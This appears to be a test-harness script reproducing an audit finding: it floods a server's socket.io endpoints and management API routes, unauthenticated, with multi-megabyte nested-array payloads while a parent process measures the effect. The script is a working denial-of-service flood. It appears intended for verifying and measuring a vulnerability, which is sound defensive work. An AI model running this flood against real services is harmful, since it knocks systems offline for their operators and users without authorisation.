// The unauthenticated flood of issue 13, finding 2, in a process of its own (so building and sending
// it costs the measuring process nothing), driven by the parent over IPC:
// - WebSockets without credentials, a few at a time, alternately on the viewers' and the agents'
//   engine, each sending one socket.io packet of nested arrays (7.6 MiB) if the upgrade succeeds;
// - POSTs of a 1 MiB JSON body of nested arrays to management routes without an API key.
// Each lane starts its next attempt as soon as the previous one ends, until told to stop.
import WebSocket from 'ws';

const [url, wsLanesArg, httpLanesArg, packetArg] = process.argv.slice(2);
const WS_LANES = Number(wsLanesArg);
const HTTP_LANES = Number(httpLanesArg);
const PACKET_BYTES = Number(packetArg);
const BODY_BYTES = 1024 * 1024;
const ENGINES = [
  { path: '/dashboard-io/', nsp: '/dashboard' },
  { path: '/socket.io/', nsp: '/agent' },
];
const ROUTES = ['/api/v1/scripts', '/api/v1/servers', '/api/v1/api-keys'];

const nested = (bytes) => {
  const depth = Math.floor(bytes / 2);
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
};
// Built once: the attacker's cost is not what is measured.
const packetBody = nested(PACKET_BYTES);
const packets = Object.fromEntries(ENGINES.map((e) => [e.nsp, `42${e.nsp},["x",${packetBody}]`]));
const body = nested(BODY_BYTES);

const stats = { wsAttempts: 0, wsRefusedAtUpgrade: 0, wsOpenedAndSent: 0, wsErrors: 0, httpSent: 0, httpByStatus: {}, httpErrors: 0 };
let running = false;
let startedAt = 0;

/** One anonymous WebSocket: refused on the upgrade, or opened and sent the packet. */
function wsAttempt(engine) {
  stats.wsAttempts++;
  return new Promise((resolve) => {
    const ws = new WebSocket(`${url.replace('http', 'ws')}${engine.path}?EIO=4&transport=websocket`, { maxPayload: 16 * 1024 * 1024 });
    let settled = false;
    const once = (outcome) => {
      if (settled) return;
      settled = true;
      stats[outcome]++;
      resolve();
    };
    ws.on('unexpected-response', (_req, res) => {
      res.resume();
      ws.terminate();
      once('wsRefusedAtUpgrade');
    });
    ws.on('error', () => once('wsErrors'));
    ws.on('open', () => {
      ws.send(`40${engine.nsp},`);
      ws.send(packets[engine.nsp], () => setTimeout(() => ws.terminate(), 200));
      ws.on('close', () => once('wsOpenedAndSent'));
    });
  });
}

async function httpAttempt(route) {
  stats.httpSent++;
  try {
    const r = await fetch(`${url}${route}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body, signal: AbortSignal.timeout(60_000) });
    await r.arrayBuffer();
    stats.httpByStatus[r.status] = (stats.httpByStatus[r.status] ?? 0) + 1;
  } catch {
    stats.httpErrors++;
  }
}

async function lane(attempt, choices, offset) {
  for (let i = offset; running; i++) await attempt(choices[i % choices.length]);
}

process.on('message', async (m) => {
  if (m.cmd === 'start') {
    running = true;
    startedAt = performance.now();
    const lanes = [
      ...Array.from({ length: WS_LANES }, (_, i) => lane(wsAttempt, ENGINES, i)),
      ...Array.from({ length: HTTP_LANES }, (_, i) => lane(httpAttempt, ROUTES, i)),
    ];
    process.send({ type: 'started' });
    await Promise.all(lanes);
    process.send({ type: 'stopped', stats, seconds: (performance.now() - startedAt) / 1000 });
  } else if (m.cmd === 'stop') {
    running = false;
  }
});
process.send({ type: 'ready' });
